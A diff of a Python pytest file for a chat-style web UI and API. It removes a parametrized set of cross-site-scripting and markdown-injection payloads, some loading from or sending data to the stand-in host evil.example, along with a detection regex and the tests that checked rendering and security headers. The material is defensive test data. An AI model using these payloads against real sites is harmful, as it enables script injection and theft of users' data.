@@ -3,20 +3,15 @@
 from __future__ import annotations
 
 import json
-import re
 import subprocess
 import sys
 from collections.abc import Iterator
 from pathlib import Path
-from urllib.parse import quote
 
 import httpx
 import pytest
 
-from tests.ui.conftest import no, serving
-from ui.naming import clause_words, credential_name
-from ui.render import transcript
-from ui.session import Exchange
+from tests.ui.conftest import serving
 
 CANARY = "canary7f3a"
 ROOT = Path(__file__).parents[3]
@@ -65,68 +60,3 @@ except ValueError as error:
     lines = [json.loads(line) for line in done.stderr.splitlines()]
     assert [(line["fault"], line["where"][-1].split()[-1]) for line in lines] == [("ValueError", "fails")] * 3
     assert CANARY not in done.stderr
-
-
-PAYLOADS = [
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<body onload=alert(1)>",
-    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<form action=//evil.example><input name=q></form>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<style>@import url(//evil.example)</style>",
-    "<base href=//evil.example/>",
-    "<object data=//evil.example/x.swf></object>",
-    "<embed src=//evil.example/x>",
-    "<video><source onerror=alert(1)></video>",
-    "<details open ontoggle=alert(1)>",
-    "<input autofocus onfocus=alert(1)>",
-    '"><script>alert(1)</script>',
-    "'-alert(1)-'",
-    "</textarea><script>alert(1)</script>",
-    "<!--><script>alert(1)</script>-->",
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    "![x](https://evil.example/pixel.png?q=secret)",
-    "[click](javascript:alert(1))",
-    "[click](data:text/html;base64,PHNjcmlwdD4=)",
-    "![x][r]\n\n[r]: https://evil.example/x.png",
-    "<https://evil.example/?q=secret>",
-    "$\\href{javascript:alert(1)}{x}$",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "\u202e<img src=x onerror=alert(1)>\u202c",
-]
-LIVE = re.compile(
-    r"<(?:script|img|svg|iframe|math|a|form|meta|link|style|base|object|embed|video|input|body|noscript)\b|<[^>]*\son\w+\s*=|<[^>]*(?:javascript:|evil\.example)",
-    re.IGNORECASE,
-)
-
-
-@pytest.mark.parametrize("payload", PAYLOADS)
-@pytest.mark.usefixtures("fake")
-def test_no_text_becomes_markup_in_the_chat(payload: str) -> None:
-    words = no().model_copy(update={"text": f"**No.** {payload}", "notes": (payload,), "facts": {"title": payload}})
-    for exchange in (Exchange(question=payload), Exchange(question=payload, error=payload), Exchange(question=payload, answer=words)):
-        page = transcript((exchange,), clause_words, credential_name)
-        assert LIVE.findall(page) == []
-
-
-@pytest.mark.parametrize("payload", PAYLOADS)
-def test_no_text_is_sent_as_anything_but_data(served: tuple[str, list[str]], payload: str) -> None:
-    for told in (
-        httpx.post(f"{served[0]}/v1/check", json={"facts": {payload: 1}}, timeout=60),
-        httpx.post(f"{served[0]}/v1/check", json={"facts": {"title": payload}}, timeout=60),
-        httpx.get(f"{served[0]}/v1/clauses/{quote(payload[:15], safe='')}", timeout=60),
-        httpx.post(
-            f"{served[0]}/v1/audit", content=f"title,total_units\n{payload},12\n".encode(), headers={"Content-Type": "text/csv"}, timeout=60
-        ),
-    ):
-        assert told.headers["content-type"].partition(";")[0] in ("application/json", "application/problem+json")
-        assert told.headers["x-content-type-options"] == "nosniff"
-        assert "script-src 'self'" in told.headers["content-security-policy"]
-        assert not re.search(r"https?://evil", str(told.headers))
